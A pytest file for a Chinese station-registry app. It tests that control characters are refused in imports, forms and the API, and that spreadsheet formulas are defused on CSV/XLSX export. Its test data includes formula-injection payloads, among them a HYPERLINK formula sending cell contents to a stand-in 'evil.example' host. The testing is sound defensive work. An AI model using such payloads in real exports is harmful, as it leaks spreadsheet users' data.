"""Text that could hurt: control characters refused at every door, exports that stay
readable, and spreadsheet formulas defused in every export and undone on import."""

import base64
import csv
import io

import pytest
from openpyxl import load_workbook

from stations import storage
from stations.registry.exporter import export_stations
from stations.registry.importer import format_report, import_file
from tests.conftest import PASSWORDS, csrf_token, make_station

HEADER = "名称,地址,经度,纬度,开放时间,负责人电话\n"


def basic(role):
    raw = f"{role}:{PASSWORDS[role]}".encode()
    return {"Authorization": "Basic " + base64.b64encode(raw).decode()}


def errors(report):
    return [(r.row, report.column(p.field), p.message) for r in report.rows for p in r.errors]


# --- control characters: import ------------------------------------------------------

@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b", "\x7f", "\x85", "\t", "\n"])
def test_import_refuses_control_characters_in_a_name_naming_row_and_column(fresh_db, char):
    data = (HEADER + "好驿站,北京,116.42,39.92,,\n"
            f"\"坏{char}驿站\",北京,116.43,39.93,,\n").encode()
    report = import_file(fresh_db, data, "s.csv")
    assert report.written == 0
    (row, column, message), = errors(report)
    assert (row, column) == (3, "名称")
    assert f"U+{ord(char):04X}" in message and "控制字符" in message
    assert storage.count_stations(fresh_db) == 0
    assert f"第 3 行 [名称] 错误：含有控制字符 U+{ord(char):04X}" in format_report(report)


def test_line_breaks_are_allowed_where_text_can_have_lines(fresh_db):
    data = (HEADER + "\"多行驿站\",\"北京市朝阳区\n建国门外大街1号\",116.46,39.909,\"周一至周五 8:00-20:00\n周六 9:00-17:00\",\n"
            "\"电话驿站\",北京,116.47,39.909,,\"138\x0000000000\"\n").encode()
    report = import_file(fresh_db, data, "s.csv")
    assert errors(report) == [(3, "负责人电话", errors(report)[0][2])]
    assert "U+0000" in errors(report)[0][2]
    report = import_file(fresh_db, data, "s.csv", skip_invalid=True)
    assert report.written == 1
    station = storage.search_stations(fresh_db)[0][0]
    assert station["address"] == "北京市朝阳区\n建国门外大街1号"


# --- control characters: forms and API -----------------------------------------------

FORM = {"name": "控制\x00字符站", "address": "北京市朝阳区", "district": "", "subdistrict": "",
        "lon": "116.4600", "lat": "39.9200", "datum": "wgs84", "host_union": "",
        "station_type": "warm_station", "hours": "", "status": "active", "manager": "",
        "manager_phone": ""}


def test_the_admin_form_refuses_control_characters_and_keeps_what_was_typed(client, auth, fresh_db):
    auth.login("admin")
    data = dict(FORM, csrf_token=csrf_token(client, "/admin/stations/new"))
    data["host_union"] = "朝阳\x1b区总工会"
    response = client.post("/admin/stations/new", data=data)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "含有控制字符 U+0000（NUL）" in page and "含有控制字符 U+001B（ESC）" in page
    assert 'value="北京市朝阳区"' in page and 'value="116.4600"' in page
    assert storage.count_stations(fresh_db) == 0


@pytest.mark.parametrize("field,value", [("name", "站\x00"), ("address", "北京\x08"),
                                         ("manager", "张\x1f三"), ("hours", "24小时\x00")])
def test_the_api_refuses_control_characters_naming_the_field(client, fresh_db, field, value):
    body = {"name": "接口站", "lon": 116.46, "lat": 39.92, field: value}
    response = client.post("/api/v1/stations", json=body, headers=basic("admin"))
    assert response.status_code == 400
    fields = response.get_json()["error"]["fields"]
    assert list(fields) == [field] and "控制字符" in fields[field][0]
    sid = make_station(fresh_db, name="已有站")
    response = client.patch(f"/api/v1/stations/{sid}", json={field: value}, headers=basic("admin"))
    assert response.status_code == 400 and list(response.get_json()["error"]["fields"]) == [field]
    assert storage.get_station(fresh_db, sid)["name"] == "已有站"


def test_a_lone_surrogate_in_json_is_refused_not_a_server_error(client, fresh_db):
    response = client.post("/api/v1/stations", data='{"name": "\\ud800站", "lon": 116.46, "lat": 39.92}',
                           content_type="application/json", headers=basic("admin"))
    assert response.status_code == 400
    assert storage.count_stations(fresh_db) == 0


# --- control characters: exports of data stored before the rule -----------------------

def test_xlsx_export_of_stored_control_characters_is_a_readable_workbook(fresh_db, app, tmp_path):
    make_station(fresh_db, name="旧\x00数据\x0b站", address="北京\x1b")
    out = io.BytesIO()
    assert export_stations(storage.iter_stations(fresh_db), "xlsx", out) == 1
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][1] == "旧\ufffd数据\ufffd站" and rows[1][2] == "北京\ufffd"
    result = app.test_cli_runner().invoke(args=["export", "--format", "xlsx", "-o", str(tmp_path / "a.xlsx")])
    assert result.exit_code == 0, result.output
    assert load_workbook(tmp_path / "a.xlsx").active["B2"].value == "旧\ufffd数据\ufffd站"


# --- formulas: defused in every spreadsheet export, undone on import ------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+SUM(1,2)", "-2+3", "@cmd",
            "'=已经带撇号", "''+两个撇号", "'普通撇号"]


def export_bytes(db, fmt, **kw):
    out = io.BytesIO()
    export_stations(storage.iter_stations(db, private=True), fmt, out, private=True, **kw)
    return out.getvalue()


def sheet_rows(data, fmt):
    """The cells of an export, row by row (an XLSX file's bytes also carry its write time)."""
    if fmt == "csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_is_defused_on_export_and_round_trips_exactly(fresh_db, tmp_path, fmt):
    for i, name in enumerate(FORMULAS):
        make_station(fresh_db, name=name, lon=116.30 + i * 0.01, lat=39.95, host_union=name,
                     manager_phone="+86 10 6512 3456", address="-", district=None)
    first = export_bytes(fresh_db, fmt)
    if fmt == "csv":
        cells = [c for line in first.decode("utf-8-sig").splitlines()[1:] for c in line.split(",")]
    else:
        sheet = load_workbook(io.BytesIO(first)).active
        cells = [c for row in sheet.iter_rows(min_row=2, values_only=True) for c in row]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    armed = [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert armed == [], armed
    assert "'+86 10 6512 3456" in cells
    # Coordinates are numbers, never defused text.
    assert all(isinstance(c, float) or not str(c).startswith("'1") for c in cells)
    if fmt == "csv":
        assert ",116.3,39.95," in first.decode("utf-8-sig")

    other = storage.connect(tmp_path / "other.db")
    storage.migrate(other)
    report = import_file(other, first, f"all.{fmt}")
    assert report.written == len(FORMULAS), format_report(report)
    back = {s["id"]: s for s in storage.iter_stations(other, private=True)}
    for station in storage.iter_stations(fresh_db, private=True):
        copy = back[station["id"]]
        assert (copy["name"], copy["host_union"]) == (station["name"], station["name"])
        assert copy["manager_phone"] == "+86 10 6512 3456" and copy["address"] == "-"
    # Exported again from the copy, the file says exactly what the first one said, but for
    # 区 (the import fills it in from the coordinates where the original left it empty) and
    # the copy's own creation and update times.
    again, before = sheet_rows(export_bytes(other, fmt), fmt), sheet_rows(first, fmt)
    assert again[0] == before[0]
    own = {before[0].index(name) for name in ("区", "创建时间", "更新时间")}
    assert all(row[before[0].index("区")] in (None, "") for row in before[1:])

    def kept(rows):
        return [[cell for i, cell in enumerate(row) if i not in own] for row in rows]
    assert kept(again) == kept(before)


def test_a_leading_tab_on_import_does_not_re_arm_a_cell(fresh_db):
    data = (HEADER + "\"\t=1+2\",北京,116.42,39.92,,\n\"\t'=3+4\",北京,116.45,39.92,,\n").encode()
    assert import_file(fresh_db, data, "s.csv").written == 2
    out = export_bytes(fresh_db, "csv").decode("utf-8-sig")
    names = [line.split(",")[1] for line in out.splitlines()[1:]]
    assert names == ["'=1+2", "''=3+4"]
    assert [s["name"] for s in storage.iter_stations(fresh_db)] == ["=1+2", "'=3+4"]
